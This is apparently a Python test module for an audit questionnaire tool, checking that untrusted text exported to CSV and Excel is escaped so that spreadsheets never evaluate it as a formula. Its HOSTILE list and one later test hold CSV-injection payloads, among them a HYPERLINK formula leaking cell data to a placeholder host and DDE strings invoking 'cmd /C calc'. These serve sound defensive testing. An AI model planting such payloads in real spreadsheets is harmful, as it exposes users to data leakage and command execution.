"""Untrusted text never opens as a formula in our CSV or Excel files, and CSV round trips stay exact.

Scheme (docs/questionnaire.md, "Formulas"): in CSV, text that a spreadsheet could evaluate, and text
that starts with an apostrophe, gets one apostrophe in front; import drops one leading apostrophe.
In .xlsx, text cells have the string type (never a formula) and keep their text unchanged.
"""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlops_audit.evidence.answers import (
    Answer,
    AnswerFile,
    Organisation,
    Respondent,
    RosterEntry,
    RubricRef,
)
from mlops_audit.evidence.questionnaire.export import make_form, render
from mlops_audit.evidence.questionnaire.importer import read_answer_file
from mlops_audit.evidence.questionnaire.merge import (
    disagreement_csv,
    merge_answer_files,
)
from mlops_audit.rubric.loader import load_rubric
from mlops_audit.util.spreadsheet import (
    escape_formula,
    looks_like_formula,
    unescape_formula,
)

RUBRIC = load_rubric(Path(__file__).resolve().parents[1] / "fixtures" / "rubric_small.yaml")
HOSTILE = [
    '=HYPERLINK("http://x.invalid/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "＝1+1",  # full-width equals sign (East Asian input)
    "'already quoted",
    "''=two apostrophes",
    "'",
    "=",
    "-",
    "-5 days",
]


def spreadsheet_may_evaluate(cell: str) -> bool:
    """Written apart from the implementation, after OWASP's CSV-injection list: a cell that
    starts (maybe after blanks) with = + - @ or their full-width forms, or with a tab or CR, and
    is not simply a number."""
    if cell[:1] in ("\t", "\r"):
        return True
    start = cell.lstrip()[:1]
    if not start or start not in "=+-@＝＋－＠":
        return False
    plain_number = set(cell) <= set("0123456789.+-eE")
    if plain_number:
        try:
            float(cell)
            return False
        except ValueError:
            return True
    return True


def _file(text: str, *, line: str | None = None) -> AnswerFile:
    """Hostile text in every free-text place of an answer file; `line` for one-line places."""
    line = line if line is not None else text
    return AnswerFile(
        rubric=RubricRef(**RUBRIC.ref),
        organisation=Organisation(name=line, scope=line),
        respondent=Respondent(id=line[:120], roles=["data_engineer"], team=line),
        roster=[RosterEntry(person=line[:120], roles=["data_engineer"], dedicated=False, team=line)],
        answered_at="2026-11-30",
        answers=[
            Answer(criterion="DE.ingest.L1", value="yes", comment=text, evidence=[line, "docs/ok.md"]),
            Answer(criterion="DE.ingest.L4", value=None, comment=text),
            Answer(criterion="DE.quality.L5", value=-5, comment="-2+3"),
        ],
    )


def _round_trip(model: AnswerFile, fmt: str, lang: str = "en") -> tuple[bytes, AnswerFile | None]:
    form, _ = make_form(RUBRIC, lang=lang, filled=model)
    data = render(form, fmt)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"answers.{fmt}"
        path.write_bytes(data)
        again, problems = read_answer_file(path, RUBRIC)
    assert [p for p in problems if p.severity == "error"] == []
    return data, again


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


# ---- the escaping scheme itself ---------------------------------------------------------------


@given(st.text())
def test_unescape_undoes_escape_for_any_text(text):
    assert unescape_formula(escape_formula(text)) == text


@given(st.text())
def test_an_escaped_cell_never_looks_like_a_formula_to_a_spreadsheet(text):
    escaped = escape_formula(text)
    assert not spreadsheet_may_evaluate(escaped)
    assert escaped == text or escaped == "'" + text  # only ever one apostrophe in front


@pytest.mark.parametrize("text", HOSTILE + ["\t=1+1", "\r=1+1", " =1+1", "\u3000@SUM(A1)"])
def test_hostile_text_is_escaped(text):
    assert spreadsheet_may_evaluate(text) or text.startswith("'")
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("number", ["-5", "-12.5", "+3", "1e-05", "-1000000000000.0", "0", ".5"])
def test_numbers_are_not_escaped(number):
    assert escape_formula(number) == number and not looks_like_formula(number)


@pytest.mark.parametrize("text", ["yes", "DE.ingest.L1", "是", "a=b", "x-1", "#hash", "", "https://git.example/x?a=1"])
def test_ordinary_text_is_left_alone(text):
    assert escape_formula(text) == text


# ---- CSV questionnaires -------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_back_exactly_from_csv_and_no_cell_opens_as_a_formula(text):
    model = _file(text)
    data, again = _round_trip(model, "csv")
    assert again == model
    cells = _csv_cells(data)
    assert "'" + text in cells  # escaped on the way out
    assert [c for c in cells if spreadsheet_may_evaluate(c)] == []


prefix = st.sampled_from(["=", "+", "-", "@", "'", "''", "'=", "＝", "＠", "-2+3", "=HYPERLINK(", "+cmd|'"])
tail = st.text(st.characters(blacklist_categories=("Cs", "Cc")) | st.just("\n"), max_size=30).map(
    lambda s: "\n".join(line.rstrip() for line in s.split("\n")).rstrip()  # comments keep no trailing blanks
)
one_line_tail = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")), max_size=30).map(str.rstrip)


@settings(max_examples=60, deadline=None)
@given(prefix, tail, prefix, one_line_tail)
def test_any_text_starting_like_a_formula_survives_the_csv_round_trip(p1, t1, p2, t2):
    model = _file(p1 + t1, line=p2 + t2)
    data, again = _round_trip(model, "csv", lang="both")
    assert again == model
    assert [c for c in _csv_cells(data) if spreadsheet_may_evaluate(c)] == []


def test_a_negative_number_answer_stays_a_number_in_csv():
    data, again = _round_trip(_file("ok"), "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header = next(r for r in rows if r[0] == "criterion")
    table = [dict(zip(header, r, strict=False)) for r in rows[rows.index(header) + 1 :]]
    assert {r["criterion"]: r["value"] for r in table}["DE.quality.L5"] == "-5"
    assert {a.criterion: a.value for a in again.answers}["DE.quality.L5"] == -5


def test_disagreement_table_escapes_text_and_keeps_numbers():
    import pandas as pd

    def respondent(rid: str, value: float, comment: str) -> tuple[str, AnswerFile]:
        return f"{rid}.yaml", AnswerFile(
            rubric=RubricRef(**RUBRIC.ref),
            organisation=Organisation(name="Bank"),
            respondent=Respondent(id=rid, roles=["data_engineer"]),
            answers=[Answer(criterion="DE.quality.L5", value=value, comment=comment)],
        )

    hostile_id = '=HYPERLINK("http://x.invalid","y")'
    result = merge_answer_files([respondent(hostile_id, -5, "@SUM(1)"), respondent("r-2", -5, "-2+3")], RUBRIC)
    data = disagreement_csv(result, contested_only=False)  # they agree: the full table holds the row
    assert [c for c in _csv_cells(data) if spreadsheet_may_evaluate(c)] == []
    table = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    row = table.iloc[0]
    assert row["respondents"] == "'" + hostile_id + "; r-2"
    assert unescape_formula(row["respondents"]) == f"{hostile_id}; r-2"
    assert row["combined"] == -5 and row["level"] == 5 and row["agreement"] == 1.0  # numbers, not text


# ---- Excel questionnaires -----------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "both"])
def test_workbook_has_no_formula_cells_and_hostile_text_is_string_data(lang):
    from openpyxl import load_workbook

    model = _file(HOSTILE[0], line=HOSTILE[2])
    data, again = _round_trip(model, "xlsx", lang=lang)
    assert again == model
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert len({c.parent.title for c in cells}) == len(wb.sheetnames)  # every sheet, the hidden _meta too
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hostile = [c for c in cells if c.value in (HOSTILE[0], HOSTILE[2])]
    assert len(hostile) >= 8  # organisation, scope, id, team, roster person and team, comment, evidence
    # Stored as text, unchanged (no apostrophe added), and quote-prefixed so editing keeps it text.
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    number = next(c for c in cells if c.value == -5)
    assert number.data_type == "n"
